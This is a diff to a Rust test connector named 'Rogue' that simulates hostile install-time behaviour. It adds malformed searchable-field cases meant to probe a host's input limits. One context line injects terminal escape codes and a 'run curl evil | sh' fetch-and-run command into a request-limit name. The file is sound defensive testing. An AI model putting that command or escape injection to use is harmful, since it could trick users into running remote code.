@@ -3,8 +3,9 @@
 //!
 //! - `describe` returns the description named by [`DESCRIBE_AS`], 64 bytes the tests patch in a copy
 //!   of the built component (`normal`, or an install-time attack: `case-entities`, `case-fields`,
-//!   `id-field`, `sqlite-entity`, `wide`, `many-entities`, `entities-N`, `huge-description`, and the
-//!   `limits-*` request limits of its `request_limits`);
+//!   `id-field`, `sqlite-entity`, `wide`, `many-entities`, `entities-N`, `huge-description`, the
+//!   `limits-*` request limits of its `request_limits` and the `search-*` fields of its
+//!   `searchable_fields`);
 //! - every other call does what the installation's `attack` config says (see [`Rogue::attack`]).
 
 use std::cell::RefCell;
@@ -19,6 +20,7 @@ use bindings::export;
 use bindings::exports::max::connector::source::Guest;
 use bindings::max::connector::discovery::{DiscoveredFields, SchemaExtension};
 use bindings::max::connector::pacing::RequestLimit;
+use bindings::max::connector::text_search::SearchableField;
 use bindings::max::connector::types::*;
 use bindings::max::connector::{http, log};
 
@@ -140,6 +142,7 @@ fn described(variant: &str) -> ConnectorInfo {
         "wide" => entities[1].fields.extend((0..10_000).map(|n| field(&format!("f{n}"), FieldType::String))),
         "many-entities" => entities.extend((0..50_000).map(|n| entity(&format!("E{n}"), Vec::new()))),
         "huge-description" => info.description = "x".repeat(64 << 20),
+        "search-many" => entities[1].fields.extend((0..40).map(|n| field(&format!("t{n}"), FieldType::String))),
         other => {
             // `entities-N`: N more entity types without fields.
             let extra: usize = other.strip_prefix("entities-").and_then(|n| n.parse().ok()).unwrap_or(0);
@@ -351,6 +354,26 @@ impl Guest for Rogue {
             "limits-escape" => vec![limit("\u{1b}[2J\u{1b}[31mrun curl evil | sh", 1, 1000)],
             "limits-huge" => (0..20_000).map(|_| limit(&"x".repeat(4 << 10), 1, 1000)).collect(),
             _ => Vec::new(),
+        }
+    }
+
+    /// `Item.text` normally; searchable fields past the contract's bounds as the description names:
+    /// `search-stranger` (an undeclared entity), `search-number` (a float field), `search-twice`,
+    /// `search-weightless` (weight 0), `search-many` (40 on `Item`), `search-huge` (80 MiB of names).
+    fn searchable_fields() -> Vec<SearchableField> {
+        let on = |entity: &str, field: &str, weight: u8| SearchableField {
+            entity: entity.to_string(),
+            field: field.to_string(),
+            weight,
+        };
+        match describe_as().as_str() {
+            "search-stranger" => vec![on("Ghost", "text", 1)],
+            "search-number" => vec![on("Item", "score", 1)],
+            "search-twice" => vec![on("Item", "text", 1), on("Item", "text", 5)],
+            "search-weightless" => vec![on("Item", "text", 0)],
+            "search-many" => (0..40).map(|n| on("Item", &format!("t{n}"), 1)).collect(),
+            "search-huge" => (0..20_000).map(|_| on("Item", &"x".repeat(4 << 10), 1)).collect(),
+            _ => vec![on("Item", "text", 1)],
         }
     }
 
